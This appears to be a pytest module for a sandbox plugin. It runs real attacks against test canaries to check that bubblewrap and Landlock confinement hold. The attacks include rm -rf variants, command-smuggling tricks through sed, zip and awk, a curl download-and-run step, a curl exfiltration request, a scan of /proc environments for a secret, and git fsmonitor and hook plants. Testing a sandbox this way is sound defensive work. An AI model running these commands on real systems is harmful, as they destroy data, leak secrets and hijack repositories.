"""Confinement that holds when the analyser is wrong: attacks run for real under each sandbox layer.

Every attack below is waived past the analyser (all rule ids in ``mission_allow_rules``, policy
permissive), so what stops it is the sandbox alone. The targets are a canary directory under /var/tmp
(outside every private /tmp), a Unix socket server and a TCP server this test starts, the pytest
process's own environment, and the project checkout's ``.git``.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import socket
import subprocess
import threading
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer

from pytest_rustchain import confine
from pytest_rustchain.safety.catalog import RULES
from pytest_rustchain.sandbox import probe_bwrap

WriteMission = Callable[[str, str], None]

bwrap_path, bwrap_why = probe_bwrap()
needs_bwrap = pytest.mark.skipif(bwrap_path is None, reason=f"no working bubblewrap: {bwrap_why}")
landlock_why = confine.landlock_problem()
needs_landlock = pytest.mark.skipif(landlock_why is not None, reason=f"no Landlock layer: {landlock_why}")

# Attack classes, each writing to (or deleting) its own canary subdirectory; {c} is that subdirectory.
FILE_ATTACKS = {
    "plain-delete": "rm -rf {c}",
    "overwrite": "echo pwned > {c}/keep.txt",
    "symlink-alias": "ln -s {c} c && rm -rf c/*",
    "sed-e-command": "printf 'line\\n' > x && sed -n '1e rm -rf {c}' x",
    "zip-TT-command": "printf 'd\\n' > z && zip -q z.zip z -T -TT 'rm -rf {c} #'; true",
    "unshare-wrapper": "unshare rm -rf {c}",
    "awk-write": 'awk \'BEGIN{{print "pwned" > "{c}/keep.txt"}}\'',
    "brace-expansion": "bash -c 'rm -rf {{{c},nothing}}'",
    "cdpath": "CDPATH={parent}; cd {name} >/dev/null && rm -rf -- *",
    "python-code": "python3 -c \"import shutil; shutil.rmtree('{c}')\"",
    "download-and-run": "curl -fsSLo i.sh {url}/i.sh && sh i.sh",
}


@dataclass(frozen=True, slots=True, kw_only=True)
class Targets:
    canary: Path
    socket_path: Path
    received: list[bytes]
    httpserver: HTTPServer
    secret_name: str


def _digest(root: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(root.rglob("*")):
        digest.update(str(path.relative_to(root)).encode())
        if path.is_file() and not path.is_symlink():
            digest.update(path.read_bytes())
    return digest.hexdigest()


@pytest.fixture
def targets(httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> Iterator[Targets]:
    """Canaries under /var/tmp, a listening Unix socket, a TCP server and a secret in pytest's environment."""
    base = Path("/var/tmp") / f"rustchain-canary-{uuid.uuid4().hex[:10]}"
    canary = base / "canary"
    for name in [*FILE_ATTACKS, "git"]:
        (canary / name).mkdir(parents=True)
        (canary / name / "keep.txt").write_text("precious\n")
    socket_path = base / "agent.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(socket_path))
    server.listen(8)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(1024) or b"(connected)")
                except OSError:
                    received.append(b"(connected)")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    httpserver.expect_request("/i.sh").respond_with_data(f"rm -rf {canary}/download-and-run\n")
    httpserver.expect_request("/exfil").respond_with_data("ok")
    secret_name = f"RC_CANARY_TOKEN_{uuid.uuid4().hex[:8].upper()}"
    monkeypatch.setenv(secret_name, "s3cr3t-value-of-pytest")
    try:
        yield Targets(
            canary=canary, socket_path=socket_path, received=received, httpserver=httpserver, secret_name=secret_name
        )
    finally:
        stop.set()
        thread.join()
        server.close()
        subprocess.run(["chmod", "-R", "u+rwX", str(base)], check=False)
        shutil.rmtree(base, ignore_errors=True)


def _step(step_id: str, command: str, *, expect: str = "") -> str:
    lines = [
        f"  - id: {step_id}",
        "    step_type: command",
        "    continue_on_error: true",
        f"    parameters: {{shell: true, command: {json.dumps(command)}}}",
    ]
    if expect:
        lines.append(f"    expect: {{stdout_contains: {expect}}}")
    return "\n".join(lines)


def _run_attacks(pytester: pytest.Pytester, targets: Targets, *args: str) -> tuple[dict[str, bool], str]:
    """Run every attack class; which ones the layer held (True) and the terminal output."""
    canary = targets.canary
    url = targets.httpserver.url_for("").rstrip("/")
    steps = []
    for name, template in FILE_ATTACKS.items():
        c = canary / name
        steps.append(_step(name, template.format(c=c, parent=c.parent, name=c.name, url=url)))
    probe = f"s=socket.socket(socket.AF_UNIX); s.connect('{targets.socket_path}'); s.sendall(b'from a step')"
    steps.append(_step("host-unix-socket", f'python3 -c "import socket; {probe}"'))
    env_scan = (
        "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f 2>/dev/null; done"
        f" | grep -q '^{targets.secret_name}=' && echo LEAKED || echo SAFE"
    )
    steps.append(_step("parent-environment", env_scan, expect="SAFE"))
    steps.append(_step("parent-environ-od", "cd /proc/$PPID && od -An -c environ | tr -d ' \\n'", expect=""))
    steps.append(
        _step("signal-pytest", f"kill -0 {os.getpid()} 2>/dev/null && echo LEAKED || echo SAFE", expect="SAFE")
    )
    steps.append(_step("loopback-network", f"curl -s -m 5 {url}/exfil"))
    pytester.path.joinpath("attacks.mission.yaml").write_text("name: attacks\nsteps:\n" + "\n".join(steps) + "\n")
    # workspace: project, with .git aliased through a symlink and written directly.
    subprocess.run(["git", "init", "-q", str(pytester.path)], check=True)
    pytester.path.joinpath("sub").mkdir()
    git_config = pytester.path / ".git" / "config"
    before_git = git_config.read_bytes()
    plant = f"printf '[core]\\n\\tfsmonitor = \"touch {canary}/git/pwned\"\\n'"
    project = [
        _step("git-symlink", f"ln -sfn ../.git sub/g && {plant} >> sub/g/config"),
        _step("git-direct", f"{plant} >> .git/config; echo 'rm -rf {canary}/git' > .git/hooks/pre-commit"),
    ]
    pytester.path.joinpath("project.mission.yaml").write_text(
        "name: project\nconfig: {workspace: project}\nsteps:\n" + "\n".join(project) + "\n"
    )
    rules = " ".join(RULES)
    pytester.makeini(f"[pytest]\nmission_allow_rules = {rules}\n")
    before = {name: _digest(canary / name) for name in FILE_ATTACKS}
    # A pytest of its own, so that the secret is in the environment it started with (what /proc shows).
    result = pytester.runpytest_subprocess(
        "-v", "-p", "no:cacheprovider", "--mission-safety=permissive", "--mission-report=run.json", *args
    )
    out = result.stdout.str()
    report = json.loads(pytester.path.joinpath("run.json").read_text())
    statuses = {s["id"]: s["status"] for m in report["missions"] for s in m["steps"]}
    blocked = [step for step, status in statuses.items() if status == "blocked"]
    assert not blocked, f"the analyser blocked {blocked}: these attacks did not test the sandbox\n{out}"
    outputs = {s["id"]: s.get("outputs", {}) for m in report["missions"] for s in m["steps"]}
    held = {name: (canary / name).exists() and _digest(canary / name) == before[name] for name in FILE_ATTACKS}
    held["host-unix-socket"] = not targets.received
    held["parent-environment"] = "SUBPASSED[[]parent-environment]" in out or "SUBPASSED[parent-environment]" in out
    od = str(outputs.get("parent-environ-od", {}).get("stdout", ""))
    held["parent-environ-od"] = targets.secret_name not in od
    held["signal-pytest"] = "SUBPASSED[signal-pytest]" in out
    held["loopback-network"] = not any(req.path == "/exfil" for req, _ in targets.httpserver.log)
    held["download-and-run"] = held["download-and-run"] and not any(
        req.path == "/i.sh" for req, _ in targets.httpserver.log
    )
    held["git-project"] = (
        git_config.read_bytes() == before_git and not (pytester.path / ".git" / "hooks" / "pre-commit").exists()
    )
    return held, out


def _hide_bwrap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """PATH as before, but every directory that holds bwrap replaced by a copy of links without it."""
    entries = []
    for i, entry in enumerate(os.environ.get("PATH", "").split(os.pathsep)):
        if entry and Path(entry, "bwrap").exists():
            farm = tmp_path / f"path{i}"
            farm.mkdir()
            for item in Path(entry).iterdir():
                if item.name != "bwrap":
                    (farm / item.name).symlink_to(item)
            entry = str(farm)
        entries.append(entry)
    monkeypatch.setenv("PATH", os.pathsep.join(entries))
    probe_bwrap.cache_clear()


@needs_bwrap
def test_bwrap_holds_every_attack(pytester: pytest.Pytester, targets: Targets) -> None:
    """Under auto with bubblewrap, no attack class reaches the canaries, the socket, the network,
    pytest's environment or the checkout's .git."""
    held, out = _run_attacks(pytester, targets, "--mission-sandbox=auto")
    assert "rustchain: sandbox bwrap" in out
    assert all(held.values()), f"not held under bwrap: {[k for k, v in held.items() if not v]}\n{out}"


@needs_landlock
def test_landlock_holds_every_attack(
    pytester: pytest.Pytester, targets: Targets, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With bwrap hidden from PATH, auto falls back to Landlock and seccomp, which hold every attack class."""
    _hide_bwrap(tmp_path, monkeypatch)
    try:
        held, out = _run_attacks(pytester, targets, "--mission-sandbox=auto")
    finally:
        probe_bwrap.cache_clear()
    assert "rustchain: sandbox landlock (Landlock ABI" in out
    assert "bubblewrap would confine more: bwrap not found on PATH" in out
    assert all(held.values()), f"not held under landlock: {[k for k, v in held.items() if not v]}\n{out}"


def test_no_sandbox_lets_the_attacks_through(pytester: pytest.Pytester, targets: Targets) -> None:
    """Without a sandbox the same missions do reach their targets: the attacks above are real."""
    held, out = _run_attacks(pytester, targets, "--mission-sandbox=none")
    assert "sandbox none (set by --mission-sandbox=none)" in out
    # A non-root pytest is non-dumpable while steps run, so only root can read its environment.
    expected = {name for name in held if not name.startswith("parent-environ") or os.geteuid() == 0}
    assert {name for name, ok in held.items() if not ok} == expected, f"{held}\n{out}"
